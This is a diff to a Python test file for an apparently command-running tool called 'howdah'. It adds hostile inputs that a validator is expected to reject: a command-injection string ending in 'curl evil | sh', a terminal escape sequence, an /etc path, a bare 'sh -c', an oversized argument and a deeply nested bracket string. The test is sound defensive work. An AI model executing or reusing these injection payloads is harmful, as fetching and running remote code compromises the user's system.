@@ -3,6 +3,7 @@
 
 from __future__ import annotations
 
+import json
 import shlex
 from collections.abc import Iterator
 from pathlib import Path
@@ -92,7 +93,21 @@ def test_a_pack_has_the_commands_that_its_sender_gave(
             assert (tmp_path / kind / path.name).read_bytes() == path.read_bytes()
 
 
-@pytest.mark.parametrize("text", ["", "[]", '{"commands": 3}', '{"commands": [3, "a\\u001b[2J"]}', "{"])
+_OTHERS = [
+    "howdah figure --runs . x; curl evil | sh",
+    "howdah figure --runs . x\u001b[2J",
+    "howdah figure --runs /etc x",
+    "howdah clean --runs .",
+    "howdah figure --runs . 'x",
+    "sh -c x",
+    "howdah figure --runs . " + "x" * 5000,
+]
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["", "[]", '{"commands": 3}', "{", "[" * 100_000, *(json.dumps({"commands": [3, each]}) for each in _OTHERS)],
+)
 def test_a_damaged_list_of_commands_is_none(tmp_path: Path, text: str) -> None:
     (tmp_path / "drawn.json").write_text(text)
     assert drawn(tmp_path) == []
